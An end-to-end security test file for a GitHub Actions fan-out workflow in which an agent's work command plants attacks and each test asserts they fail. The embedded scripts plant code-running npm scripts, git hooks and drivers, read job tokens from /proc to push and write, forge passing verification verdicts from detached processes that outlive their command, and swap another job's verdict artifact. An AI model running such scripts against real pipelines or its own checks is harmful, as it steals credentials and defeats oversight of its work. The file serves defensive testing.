/**
 * Fan-out's trust boundary (docs/security.md, "Single job or fan-out"), each attack planted by the
 * agent's work command and run end to end: examples/workflows/loop-fan-out.yml calls the reusable
 * workflow with `fan-out: true` in the GitHub sandbox, on the action built from this tree's source.
 * `plan` and `verify` run the project's code with a `contents: read` token; `decide` holds the write
 * token and runs none of it. Each test asserts what the attacker got: nothing.
 */
import { execFile } from 'node:child_process'
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { describe, expect, it } from 'vitest'
import { chooseIsolation } from '../../src/adapters/isolation.js'
import { fanOutFiles } from '../e2e/fan-out-fixtures.js'
import {
  botComments,
  describeJobs,
  expectFaithful,
  MINUTE,
  type ProjectOptions,
  type Scenario,
  startScenario,
} from '../e2e/fixtures.js'
import type { SandboxOptions } from '../sandbox/sandbox.js'
import type { JobRecord } from '../sandbox/workflow-engine.js'
import { useActionFromSource } from './source-bundle.js'

const action = useActionFromSource()
/**
 * The staircase project run through the fan-out example, on the action built from source, its loop
 * config edited by `config`; `files` are added to the repository.
 */
async function start(
  options: ProjectOptions & {
    files?: Record<string, string>
    config?: (text: string) => string
    sandbox?: Partial<SandboxOptions>
  },
): Promise<Scenario> {
  const files = fanOutFiles(options.files, options)
  files['.github/loop.yml'] = (options.config ?? ((text) => text))(files['.github/loop.yml'] ?? '')
  return startScenario({
    ...options,
    sandbox: {
      actionDir: action.actionDir,
      repoFiles: files,
      workflow: { file: 'loop-fan-out.yml' },
      jobTimeoutMs: 60_000,
      ...options.sandbox,
    },
  })
}

const jobsNamed = (jobs: readonly JobRecord[], prefix: string) =>
  jobs.filter((job) => job.name.startsWith(`loop / ${prefix}`))

async function git(bareDir: string, ...args: string[]): Promise<string> {
  return (await promisify(execFile)('git', args, { cwd: bareDir })).stdout.trim()
}

/** The project's Makefile: its `check` target is the loop's check, and says in which job it ran. */
const MAKEFILE = `check:
\t@echo "$$GITHUB_JOB make check" >> "$$E2E_SIGNAL_DIR/markers"
\t@node tools/check.mjs $(STEP)
`

/**
 * The work plants, in the candidate, everything that would run code where it is given the chance:
 * npm's lifecycle scripts, husky's hooks, a `.githooks` folder (made core.hooksPath in the plan's
 * checkout, as husky's `prepare` would), a filter, diff and merge driver named in `.gitattributes`
 * (defined in the plan's .git/config), and a Makefile whose every target runs too. Each, if it ran,
 * appends "$GITHUB_JOB <what>" to the markers file.
 */
const PLANT = `import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs'
const markers = process.env.E2E_SIGNAL_DIR + '/markers'
const mark = (what) => 'echo "$GITHUB_JOB ' + what + '" >> "' + markers + '"'
const scripts = {}
for (const name of ['preinstall', 'install', 'postinstall', 'prepare', 'prepack', 'pretest', 'test']) scripts[name] = mark('npm ' + name)
writeFileSync('package.json', JSON.stringify({ name: 'staircase', version: '1.0.0', private: true, scripts }, null, 2) + '\\n')
const hook = (dir, name) => {
  mkdirSync(dir, { recursive: true })
  writeFileSync(dir + '/' + name, '#!/bin/sh\\n' + mark('hook ' + dir + '/' + name) + '\\n')
  chmodSync(dir + '/' + name, 0o755)
}
for (const name of ['pre-commit', 'post-checkout', 'post-merge', 'pre-push']) hook('.husky', name)
for (const name of ['post-merge', 'post-checkout', 'pre-push', 'reference-transaction', 'pre-commit', 'post-commit']) hook('.githooks', name)
writeFileSync('.gitattributes', '* filter=planted diff=planted merge=planted\\n')
const git = (...args) => execFileSync('git', args, { stdio: 'pipe' })
git('config', 'core.hooksPath', '.githooks')
git('config', 'filter.planted.clean', "sh -c '" + mark('filter clean').replaceAll("'", '') + "; cat'")
git('config', 'filter.planted.smudge', "sh -c '" + mark('filter smudge').replaceAll("'", '') + "; cat'")
git('config', 'diff.planted.textconv', "sh -c '" + mark('diff textconv').replaceAll("'", '') + "; cat \\"$0\\"'")
git('config', 'merge.planted.driver', "sh -c '" + mark('merge driver').replaceAll("'", '') + "'")
const recipe = (what) => '\\t@' + mark(what).replaceAll('$', '$$$$') + '\\n'
writeFileSync('Makefile', 'check:\\n' + recipe('make check') + recipe('planted make') + '\\t@node tools/check.mjs $(STEP)\\n' +
  'all install build:\\n' + recipe('planted make all'))
`

/**
 * The work looks for the job's token everywhere it could be: its own environment, the checkout's
 * .git/config, and (where the runner gives no isolation) its ancestors' /proc/<pid>/environ. With what
 * it finds it fetches (a read), pushes to the loop's branch and to main, and writes through the REST API:
 * a comment on issue 1 and a dispatch of the workflow. It writes what it found and got to `stolen.json`.
 */
const STEAL = `import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
const out = { envNames: Object.keys(process.env).filter((n) => /TOKEN|^INPUT_|RUNTIME|ID_TOKEN/i.test(n)) }
const config = readFileSync('.git/config', 'utf8')
out.gitConfigCredentials = /extraheader|includeIf|x-access-token/i.test(config)
let token = null
let pid = process.pid
for (let depth = 0; depth < 30 && pid > 1 && !token; depth++) {
  try {
    for (const entry of readFileSync('/proc/' + pid + '/environ', 'latin1').split('\\0')) {
      const name = entry.slice(0, entry.indexOf('='))
      if (name === 'INPUT_GITHUB-TOKEN' || name === 'GITHUB_TOKEN') token = entry.slice(name.length + 1)
    }
    pid = Number(readFileSync('/proc/' + pid + '/stat', 'utf8').split(') ')[1].split(' ')[1])
  } catch { break }
}
out.token = token
if (token) {
  const header = 'http.extraheader=AUTHORIZATION: basic ' + Buffer.from('x-access-token:' + token).toString('base64')
  const tryGit = (...args) => {
    try {
      execFileSync('git', ['-c', header, ...args], { stdio: 'pipe', timeout: 20000 })
      return 'ok'
    } catch (error) { return 'refused: ' + String(error.stderr).trim().split('\\n').slice(-2).join(' / ') }
  }
  execFileSync('git', ['-c', 'user.name=agent', '-c', 'user.email=agent@example.invalid', 'commit', '-q', '--no-verify', '--allow-empty', '-m', 'planted by the agent'])
  out.fetch = tryGit('fetch', '-q', 'origin', 'main')
  out.pushLoopBranch = tryGit('push', '-q', 'origin', 'HEAD:refs/heads/' + execFileSync('git', ['branch', '--show-current'], { encoding: 'utf8' }).trim())
  out.pushMain = tryGit('push', '-q', 'origin', 'HEAD:refs/heads/main')
  out.pushNew = tryGit('push', '-q', 'origin', 'HEAD:refs/heads/planted')
  execFileSync('git', ['reset', '-q', '--hard', 'HEAD~1'])
  const api = process.env.GITHUB_API_URL + '/repos/' + process.env.GITHUB_REPOSITORY
  const post = async (path, body) => {
    const response = await fetch(api + path, {
      method: 'POST',
      headers: { authorization: 'token ' + token, accept: 'application/vnd.github+json', 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
    return response.status + ' ' + ((await response.json().catch(() => ({}))).message ?? '')
  }
  out.comment = await post('/issues/1/comments', { body: 'planted by the agent' })
  out.dispatch = await post('/actions/workflows/loop-fan-out.yml/dispatches', { ref: 'main', inputs: { 'loop-id': 'planted' } })
}
writeFileSync(process.env.E2E_SIGNAL_DIR + '/stolen.json', JSON.stringify(out, null, 2))
`

/** A runner without `sudo` or `unshare` (a self-hosted one): no isolation, said loudly; the agent can read /proc. */
function runnerWithoutIsolation(): { dir: string; path: string } {
  const dir = mkdtempSync(join(tmpdir(), 'loop-no-isolation-'))
  for (const tool of ['sudo', 'unshare']) {
    writeFileSync(join(dir, tool), '#!/bin/sh\necho "not on this runner" >&2\nexit 1\n')
    chmodSync(join(dir, tool), 0o755)
  }
  return { dir, path: `${dir}:${process.env.PATH ?? '/usr/bin:/bin'}` }
}

describe('fan-out: the write token and the project’s code', () => {
  it(
    'the candidate’s npm scripts, husky and .githooks hooks, filter and diff drivers and Makefile never run in decide; the plan’s token, read from /proc, cannot push or write',
    async () => {
      const noIsolation = runnerWithoutIsolation()
      const s = await start({
        steps: 1,
        files: { Makefile: MAKEFILE, 'tools/plant.mjs': PLANT, 'tools/steal.mjs': STEAL },
        config: (text) =>
          text
            .replace(
              'run: node tools/work.mjs',
              'run: node tools/steal.mjs && node tools/plant.mjs && node tools/work.mjs',
            )
            .replace('run: node tools/check.mjs 1', 'run: make -s check STEP=1'),
        sandbox: { extraEnv: { PATH: noIsolation.path } },
      })
      const { sandbox } = s
      await sandbox.openIssue('alice', 'Somewhere the agent would like to comment')
      await sandbox.dispatch({ 'loop-id': 'boundary' })
      const jobs = await sandbox.waitForIdle(2 * MINUTE)
      rmSync(noIsolation.dir, { recursive: true, force: true })
      const why = describeJobs(jobs)
      // The baseline round's run (no work), then iteration 1's.
      const plan = jobsNamed(jobs, 'plan').at(-1)
      const decide = jobsNamed(jobs, 'decide').at(-1)
      expect(jobsNamed(jobs, 'decide').map((job) => job.outputs.status)).toEqual(['running', 'complete'])
      expect(decide?.outputs.status, why).toBe('complete')
      expect(plan?.permissions).toEqual({ contents: 'read' })
      // The planted files reached decide in the candidate, and decide pushed them.
      const tree = await git(sandbox.git.bareDir, 'ls-tree', '-r', '--name-only', 'loop/boundary')
      for (const path of ['package.json', '.husky/post-checkout', '.githooks/post-merge', '.gitattributes', 'Makefile'])
        expect(tree.split('\n')).toContain(path)
      // What ran, and where: the loop's check (the Makefile) in the verify legs, at the base (the baseline
      // round's leg, without the planted line) and on the candidate, with it. Nothing in plan (it runs no
      // check) nor decide, and no hook, driver or npm script anywhere: the controller's git runs none, and
      // no job runs npm.
      const markers = readFileSync(join(s.signals, 'markers'), 'utf8').trim().split('\n').sort()
      expect(markers, why).toEqual(['verify make check', 'verify make check', 'verify planted make'])

      // The token: not in the work's environment, nor in the checkout's .git/config.
      const stolen = JSON.parse(readFileSync(join(s.signals, 'stolen.json'), 'utf8')) as Record<string, unknown>
      expect(stolen.envNames).toEqual([])
      expect(stolen.gitConfigCredentials).toBe(false)
      // Without isolation the agent reads it in its controller's /proc: it is the plan job's own token,
      // still live (the fetch works), and it cannot write.
      expect(stolen.token).toBe(plan?.token)
      expect(stolen.fetch).toBe('ok')
      for (const push of ['pushLoopBranch', 'pushMain', 'pushNew'])
        expect(stolen[push], push).toMatch(/^refused: .*(403|Permission to the repository denied)/)
      expect(stolen.comment).toBe('403 Resource not accessible by integration')
      expect(stolen.dispatch).toBe('403 Resource not accessible by integration')
      expect(await git(sandbox.git.bareDir, 'for-each-ref', '--format=%(refname)')).toBe(
        ['refs/heads/loop-state', 'refs/heads/loop/boundary', 'refs/heads/main'].join('\n'),
      )
      const subjects = (await git(sandbox.git.bareDir, 'log', '--format=%s', 'loop/boundary')).split('\n')
      expect(subjects).not.toContain('planted by the agent')
      expect(sandbox.api.model.comments.filter((c) => c.issueNumber === 1)).toEqual([])
      expect(jobs.filter((job) => job.inputs?.['loop-id'] === 'planted')).toEqual([])
      // The summary said loudly that there was no isolation.
      expect(plan?.stdout + (plan?.summary ?? '')).toMatch(/No isolation/)
      expect(botComments(sandbox)[0]?.body).toMatch(/COMPLETE · `boundary`/)
      expect(existsSync(join(s.signals, 'work-1'))).toBe(true)
      expectFaithful(s)
    },
    3 * MINUTE,
  )
})

/**
 * A forger, run by the plan's work and by each check (in plan's baseline and in the verify legs): it
 * writes a verdict that every check passed (schema-valid, for this loop, iteration and candidate, read
 * from the plan the leg downloaded), and a plan with no legs to verify, into every hand-off folder of
 * its runner: `plan/` (which the plan job uploads), `verdict/` (which a leg uploads), `verdicts/` (where
 * decide reads). A copy of it is left running to write them again after the command ends, once the
 * controller has written its own; it says so in `survived` if it outlives its command by 5 s.
 */
const FORGE = `import { execFileSync, spawn } from 'node:child_process'
import { appendFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
const dir = join(process.env.RUNNER_TEMP, 'loop-fan-out')
const signals = process.env.E2E_SIGNAL_DIR
const job = process.env.GITHUB_JOB
const read = (file) => { try { return JSON.parse(readFileSync(file, 'utf8')) } catch { return null } }
const forge = () => {
  const real = read(join(dir, 'plan', 'plan.json'))
  const loopId = real?.loopId ?? 'forged'
  const iteration = real?.iteration ?? 1
  const candidate = real?.candidate ?? execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8' }).trim()
  const output = 'step reached (progress 9)\\n'
  const pass = (leg) => ({ version: 2, loopId, iteration, candidate, leg, check: leg,
    run: { exitCode: 0, signal: null, timedOut: false, durationMs: 5, output, totalBytes: output.length, truncated: false } })
  const write = (path, content) => { mkdirSync(dirname(path), { recursive: true }); writeFileSync(path, JSON.stringify(content) + '\\n') }
  for (const leg of ['step-1', 'step-2']) {
    const artifact = 'loop-verdict-' + leg
    for (const file of [join('verdict', artifact + '.json'), join('verdicts', artifact, artifact + '.json'), join('plan', artifact + '.json'), join('plan', 'verdicts', artifact, artifact + '.json')])
      write(join(dir, file), pass(leg))
  }
  // The plan it hands on has no legs (nothing to verify, so nothing could fail): the controller's own
  // plan, once it is written, with its legs taken out; a whole forged one before that.
  if (job === 'plan' && real?.report) write(join(dir, 'plan', 'plan.json'), { ...real, legs: [] })
  else if (job === 'plan') write(join(dir, 'plan', 'plan.json'), { version: 2, loopId, stateVersion: null, iteration, stage: 'IMPLEMENT', base: candidate, candidate, report: null, legs: [], baseline: false })
}
if (process.argv[2] === 'again') {
  const started = Date.now()
  let said = false
  while (Date.now() - started < 15000) {
    forge()
    if (!said && Date.now() - started > 5000) { appendFileSync(join(signals, 'survived'), job + '\\n'); said = true }
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
} else {
  forge()
  appendFileSync(join(signals, 'forged'), job + '\\n')
  spawn(process.execPath, [process.argv[1], 'again'], { detached: true, stdio: 'ignore' }).unref()
}
`

/** The state decide saved for `loopId`. */
async function savedState(
  bareDir: string,
  loopId: string,
): Promise<{
  status: string
  iteration: number
  lastVerification?: { iteration: number; results: { name: string; verdict: string; exitCode: number | null }[] }
  baseline?: { checks: Record<string, string> }
}> {
  return JSON.parse(await git(bareDir, 'show', `loop-state:${loopId}/loop-state.json`))
}

/** The copies the forger leaves running die with their command only where its namespace ends them. */
const isolatedHere = chooseIsolation('auto').report.level === 'pid-namespace'

describe('fan-out: a forged hand-off', () => {
  it.skipIf(!isolatedHere)(
    'verdicts and a plan forged by the work and by the checks, in every hand-off folder, are not taken: the failing checks fail and the loop is not COMPLETE',
    async () => {
      const s = await start({
        steps: 2,
        stuck: true,
        maxIterations: 1,
        files: { 'tools/forge.mjs': FORGE },
        config: (text) =>
          text
            .replace('run: node tools/work.mjs', 'run: node tools/forge.mjs && node tools/work.mjs')
            .replaceAll('run: node tools/check.mjs', 'run: node tools/forge.mjs && node tools/check.mjs'),
      })
      const { sandbox } = s
      await sandbox.dispatch({ 'loop-id': 'forged' })
      const jobs = await sandbox.waitForIdle(2 * MINUTE)
      const why = describeJobs(jobs)
      // The forger ran in iteration 1's plan (the work: plan runs no check, and the baseline round's does no
      // work) and in every leg (each check at the base in the baseline round, then on the candidate, and its
      // flake re-run), never in decide.
      const forgers = readFileSync(join(s.signals, 'forged'), 'utf8').trim().split('\n')
      expect(
        forgers.filter((job) => job === 'plan'),
        why,
      ).toHaveLength(1)
      expect(forgers.filter((job) => job === 'verify').length).toBeGreaterThanOrEqual(4)
      expect(forgers.filter((job) => job !== 'plan' && job !== 'verify')).toEqual([])
      expect(jobsNamed(jobs, 'verify').map((job) => job.conclusion)).toEqual([
        'success',
        'success',
        'success',
        'success',
      ])
      const decides = jobsNamed(jobs, 'decide')
      expect(
        decides.map((job) => job.outputs.status),
        why,
      ).toEqual(['running', 'capped'])
      // Each check's verdict is its own leg's: both failed at the base (the baseline round took no forged
      // pass either) and on the candidate, as the project's checks do.
      const state = await savedState(sandbox.git.bareDir, 'forged')
      expect(state.baseline?.checks).toEqual({ 'step-1': 'fail', 'step-2': 'fail' })
      expect(state.iteration).toBe(1)
      expect(state.lastVerification?.iteration).toBe(1)
      expect(state.lastVerification?.results.map((r) => [r.name, r.verdict, r.exitCode])).toEqual([
        ['step-1', 'fail', 1],
        ['step-2', 'fail', 1],
      ])
      const comment = botComments(sandbox)[0]?.body ?? ''
      expect(comment).toMatch(/### 🛑 Stopped at the iteration cap · `forged` · iteration 1 of 1/)
      expect(comment).toMatch(/iteration 1 · ❌ 2 of 2 checks failed/)
      // The copies left running died with their command's namespace, before the controller wrote its files.
      expect(existsSync(join(s.signals, 'survived'))).toBe(false)
      expectFaithful(s)
    },
    3 * MINUTE,
  )
})

/**
 * The work rewrites the loop's history in its checkout and leaves refs about: it commits on a side
 * branch and merges it with a merge commit, and makes another branch and two tags. The plan's checkpoint
 * commits the work on top, and hands on whatever the loop's branch now holds.
 */
const REWRITE = `import { execFileSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
const git = (...args) => execFileSync('git', ['-c', 'user.name=agent', '-c', 'user.email=agent@example.invalid', '-c', 'core.hooksPath=/dev/null', ...args], { encoding: 'utf8' }).trim()
const branch = git('branch', '--show-current')
git('checkout', '-q', '-b', 'side')
writeFileSync('side.txt', 'from the side branch\\n')
git('add', 'side.txt')
git('commit', '-q', '-m', 'planted: side')
git('checkout', '-q', branch)
writeFileSync('line.txt', 'on the loop branch\\n')
git('add', 'line.txt')
git('commit', '-q', '-m', 'planted: line')
git('merge', '-q', '--no-ff', '-m', 'planted: merge', 'side')
git('branch', 'planted-branch')
git('tag', 'planted-tag')
git('tag', '-a', '-m', 'planted', 'planted-annotated')
`

describe('fan-out: a candidate that rewrites history', () => {
  it(
    'a merge commit in the candidate, with extra branches and tags in the plan’s checkout: the legs and decide refuse the bundle, saying why, and nothing is pushed',
    async () => {
      const s = await start({
        steps: 1,
        files: { 'tools/rewrite.mjs': REWRITE },
        config: (text) =>
          text.replace('run: node tools/work.mjs', 'run: node tools/rewrite.mjs && node tools/work.mjs'),
      })
      const { sandbox } = s
      const main = await git(sandbox.git.bareDir, 'rev-parse', 'main')
      await sandbox.dispatch({ 'loop-id': 'rewritten' })
      const jobs = await sandbox.waitForIdle(2 * MINUTE)
      const why = describeJobs(jobs)
      expect(s.workRuns(), why).toEqual(['work-1'])
      const refused = /The candidate's commits must be a straight line on the base; 1 of them has other than one parent/
      // Iteration 1's leg refuses to verify it (the baseline round's, before the work, ran), and decide refuses
      // to take it, before it writes anything.
      const legs = jobsNamed(jobs, 'verify')
      expect(
        legs.map((job) => job.conclusion),
        why,
      ).toEqual(['success', 'failure'])
      expect(legs[1]?.annotations.map((a) => a.message)).toContainEqual(expect.stringMatching(refused))
      const decide = jobsNamed(jobs, 'decide').at(-1)
      expect(decide?.conclusion).toBe('failure')
      expect(decide?.annotations.map((a) => a.message)).toContainEqual(expect.stringMatching(refused))
      // Nothing reached the remote: not the loop's branch, not the agent's branch or tags; main is untouched.
      const refs = await git(sandbox.git.bareDir, 'for-each-ref', '--format=%(refname)')
      expect(refs.split('\n').filter((ref) => ref !== 'refs/heads/loop-state')).toEqual(['refs/heads/main'])
      expect(await git(sandbox.git.bareDir, 'rev-parse', 'main')).toBe(main)
      expect(botComments(sandbox)).toEqual([])
      expectFaithful(s)
    },
    3 * MINUTE,
  )
})

/**
 * A check that replaces ANOTHER leg's verdict: run in leg step-1 (before its own check), on a runner
 * without isolation, it reads the run's ACTIONS_RUNTIME_TOKEN from its controller's /proc, waits for leg
 * step-2 to upload its (failing) verdict, deletes that artifact and uploads, under the same name, a
 * passing verdict for step-2 (the artifact service's own calls: DeleteArtifact, CreateArtifact, the blob,
 * FinalizeArtifact). Step-2's job concluded success; only its log knows which file it handed on.
 */
const FORGE_OTHER = `import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync, mkdtempSync, appendFileSync } from 'node:fs'
import { join } from 'node:path'
import { tmpdir } from 'node:os'
const target = process.argv[2]
const signals = process.env.E2E_SIGNAL_DIR
const say = (line) => appendFileSync(join(signals, 'forge-other.log'), line + '\\n')
const plan = JSON.parse(readFileSync(join(process.env.RUNNER_TEMP, 'loop-fan-out', 'plan', 'plan.json'), 'utf8'))
if (plan.baseline) process.exit(0)
let token, url, pid = process.pid
for (let d = 0; d < 30 && pid > 1 && !(token && url); d++) {
  try {
    for (const e of readFileSync('/proc/' + pid + '/environ', 'latin1').split('\\0')) {
      const i = e.indexOf('='); const n = e.slice(0, i)
      if (n === 'ACTIONS_RUNTIME_TOKEN') token = e.slice(i + 1)
      if (n === 'ACTIONS_RESULTS_URL') url = e.slice(i + 1)
    }
    pid = Number(readFileSync('/proc/' + pid + '/stat', 'utf8').split(') ')[1].split(' ')[1])
  } catch { break }
}
say('token ' + Boolean(token) + ' url ' + url)
const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString())
const [, runId, jobId] = /Actions\\.Results:([^:\\s]+):([^:\\s]+)/.exec(claims.scp)
const call = async (method, body) => {
  const r = await fetch(url + 'twirp/github.actions.results.api.v1.ArtifactService/' + method, {
    method: 'POST', headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
    body: JSON.stringify({ workflow_run_backend_id: runId, workflow_job_run_backend_id: jobId, ...body }) })
  const j = await r.json().catch(() => ({}))
  if (!r.ok) throw new Error(method + ' ' + r.status + ' ' + JSON.stringify(j))
  return j
}
const name = 'loop-verdict-' + target + '.attempt-' + (process.env.GITHUB_RUN_ATTEMPT || '1')
const until = Date.now() + 25000
let found = false
while (Date.now() < until) {
  const list = await call('ListArtifacts', { name_filter: name })
  if ((list.artifacts ?? []).length > 0) { found = true; break }
  await new Promise((r) => setTimeout(r, 100))
}
say('victim artifact seen ' + found)
if (!found) process.exit(0)
await call('DeleteArtifact', { name })
const dir = mkdtempSync(join(tmpdir(), 'forge-'))
const output = 'step reached (forged)\\n'
const file = join(dir, 'loop-verdict-' + target + '.json')
writeFileSync(file, JSON.stringify({ version: 2, loopId: plan.loopId, iteration: plan.iteration, candidate: plan.candidate,
  leg: target, check: target, run: { exitCode: 0, signal: null, timedOut: false, durationMs: 5, output, totalBytes: output.length, truncated: false } }) + '\\n')
execFileSync('zip', ['-q', '-0', '-j', join(dir, 'a.zip'), file])
const zip = readFileSync(join(dir, 'a.zip'))
const created = await call('CreateArtifact', { name, version: 4 })
const put = await fetch(created.signed_upload_url, { method: 'PUT', headers: { 'x-ms-blob-type': 'BlockBlob', 'content-type': 'application/zip' }, body: zip })
say('put ' + put.status)
await call('FinalizeArtifact', { name, size: String(zip.length) })
say('replaced ' + name)
`

describe('fan-out: one leg replaces another leg’s verdict', () => {
  it(
    'a check that deletes leg step-2’s failing verdict artifact and uploads a pass in its name (runtime token from /proc): decide refuses it, step-2 is no verdict, and the loop is not COMPLETE',
    async () => {
      const noIsolation = runnerWithoutIsolation()
      const s = await start({
        steps: 2,
        maxIterations: 1,
        files: { 'tools/forge-other.mjs': FORGE_OTHER },
        config: (text) =>
          text.replace('run: node tools/check.mjs 1', 'run: node tools/forge-other.mjs step-2; node tools/check.mjs 1'),
        sandbox: { extraEnv: { PATH: noIsolation.path } },
      })
      const { sandbox } = s
      await sandbox.dispatch({ 'loop-id': 'crossleg' })
      const jobs = await sandbox.waitForIdle(3 * MINUTE)
      rmSync(noIsolation.dir, { recursive: true, force: true })
      const why = describeJobs(jobs)
      // The attack ran: in iteration 1 (the baseline round's leg leaves it alone), leg step-1's check
      // found the runtime token, saw step-2's artifact, and put its own in its place.
      const forger = readFileSync(join(s.signals, 'forge-other.log'), 'utf8').trim().split('\n')
      expect(forger, why).toEqual([
        expect.stringMatching(/^token true url http/),
        'victim artifact seen true',
        'put 201',
        'replaced loop-verdict-step-2.attempt-1',
      ])
      // Every leg's job concluded success: the jobs alone cannot tell the forgery.
      expect(jobsNamed(jobs, 'verify').map((job) => job.conclusion)).toEqual([
        'success',
        'success',
        'success',
        'success',
      ])
      // Decide took step-1's own verdict and refused the one in step-2's name: not the file step-2's job
      // named in its own log. Step-2 is an error, never a pass, and the loop stops at its cap, not COMPLETE.
      expect(jobsNamed(jobs, 'decide').map((job) => job.outputs.status)).toEqual(['running', 'capped'])
      const state = await savedState(sandbox.git.bareDir, 'crossleg')
      expect(state.lastVerification?.results.map((r) => [r.name, r.verdict, r.exitCode])).toEqual([
        ['step-1', 'pass', 0],
        ['step-2', 'error', null],
      ])
      const comment = botComments(sandbox)[0]?.body ?? ''
      expect(comment).toMatch(
        /no verdict from step-2: its verdict came from an artifact, and is not the file its verify job handed on \(its log names sha256 [0-9a-f]{12}, the file's is [0-9a-f]{12}\): not trusted/,
      )
      expect(comment).toMatch(/### 🛑 Stopped at the iteration cap · `crossleg`/)
      expectFaithful(s)
    },
    4 * MINUTE,
  )
})
